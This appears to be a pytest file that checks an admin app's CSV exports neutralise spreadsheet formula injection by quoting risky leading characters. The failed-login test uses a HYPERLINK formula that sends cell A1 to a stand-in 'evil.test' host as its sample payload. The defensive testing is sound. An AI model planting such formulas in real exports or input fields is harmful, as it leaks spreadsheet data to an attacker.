"""CSV exports never hand a spreadsheet a formula: text cells starting with = + - @ (or tab, CR) are quoted."""

from __future__ import annotations

import csv
import io

import pytest

from mhc.admin.base import csv_safe
from mhc.extensions import db
from mhc.models import Person, Profile


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ('=HYPERLINK("http://x","y")', '\'=HYPERLINK("http://x","y")'),
        ("+1", "'+1"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("alice", "alice"),
        ("", ""),
        (-5, -5),
        (None, None),
    ],
)
def test_csv_safe(value, expected):
    assert csv_safe(value) == expected


def _rows(response) -> list[list[str]]:
    assert response.status_code == 200
    return list(csv.reader(io.StringIO(response.get_data(as_text=True))))


def test_a_failed_login_named_like_a_formula_exports_as_text(client, auth, login_as):
    formula = '=HYPERLINK("http://evil.test/?"&A1,"click")'
    auth.login(formula, "wrong password")
    login_as("admin")
    rows = _rows(client.get("/audit_log/export/csv/"))
    users = [row[1] for row in rows[1:]]
    assert "'" + formula in users
    assert formula not in users


def test_directory_export_quotes_formula_text_and_keeps_numbers(client, login_as):
    person = Person(username="carol", num_followers=7)
    db.session.add(person)
    db.session.flush()
    db.session.add(Profile(person_id=person.id, tags=["=1+2"]))
    db.session.commit()
    login_as("admin")
    text = client.get("/users/directory/export/csv/").get_data(as_text=True)
    assert "carol" in text
    assert "=1+2" not in text.replace("'=1+2", "")
